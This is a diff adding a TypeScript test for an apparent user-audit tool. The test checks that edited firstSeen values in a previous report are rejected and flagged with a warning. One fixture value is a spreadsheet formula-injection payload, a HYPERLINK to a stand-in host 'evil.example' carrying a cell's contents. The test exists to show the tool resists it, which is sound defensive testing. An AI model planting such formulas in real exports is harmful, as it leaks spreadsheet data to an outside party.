@@ -106,6 +106,55 @@ describe("what changed since the last run", () => {
     expect(rows[1]).toMatchObject({ change: "unchanged", first_seen: first.run.startedAt, suppressed: "false" })
   })
 
+  it("carries forward only a first_seen this tool can have written, and warns of the others", async () => {
+    const stale = (id: string) => person(id, { lastLoggedInAt: daysAgo(200) })
+    const first = await auditOf([stale("formula"), stale("future"), stale("garbage"), stale("kept"), stale("gone")])
+    // The previous report, edited: each finding's line in it, its firstSeen replaced.
+    const edits: Record<string, string> = {
+      formula: '=HYPERLINK("http://evil.example/?x="&B2,"click")',
+      future: "2099-01-01T00:00:00Z",
+      garbage: "garbage",
+      gone: "=1+1"
+    }
+    const edited = readFileSync(first.reports.json, "utf8")
+      .split("\n")
+      .map((line) => {
+        const id = Object.keys(edits).find((key) => line.includes(`"id":"STALE_LOGIN:${key}"`))
+        return id === undefined
+          ? line
+          : line.replace(`"firstSeen":"${first.run.startedAt}"`, `"firstSeen":${JSON.stringify(edits[id])}`)
+      })
+      .join("\n")
+    expect(edited).toContain("evil.example")
+    writeFileSync(first.reports.json, edited)
+
+    const second = await auditOf([stale("formula"), stale("future"), stale("garbage"), stale("kept")])
+    const firstSeen = Object.fromEntries(findingsOf(second).map((finding) => [finding.userId, finding.firstSeen]))
+    expect(firstSeen).toEqual({
+      formula: second.run.startedAt,
+      future: second.run.startedAt,
+      garbage: second.run.startedAt,
+      kept: first.run.startedAt
+    })
+    const rows = parse(readFileSync(second.reports.csv, "utf8"), { bom: true, columns: true }) as Array<
+      Record<string, string>
+    >
+    expect(rows.map((row) => [row.user_id, row.first_seen, row.change])).toEqual([
+      ["formula", second.run.startedAt, "unchanged"],
+      ["future", second.run.startedAt, "unchanged"],
+      ["garbage", second.run.startedAt, "unchanged"],
+      ["kept", first.run.startedAt, "unchanged"]
+    ])
+    const run = runOf(second)
+    // Resolved, when it was first seen is not known.
+    expect(run.changes.resolved.map((finding) => [finding.id, finding.firstSeen])).toEqual([["STALE_LOGIN:gone", null]])
+    expect(run.warnings).toContain(
+      `The previous report (${basename(first.reports.json)}) gives 4 findings a firstSeen this tool cannot have ` +
+        `written (STALE_LOGIN:formula: "=HYPERLINK("http://evil.example/?x="&B2,..." is not an RFC 3339 UTC ` +
+        "timestamp): was it edited? They are taken as first seen by this run."
+    )
+  })
+
   it("treats an unreadable previous report as 'everything is new' and says why, once", async () => {
     writeFileSync(join(directory, "user-audit-20200101T000000Z.json"), "{ not json")
     const outcome = await auditOf([person("stale", { lastLoggedInAt: daysAgo(200) })])
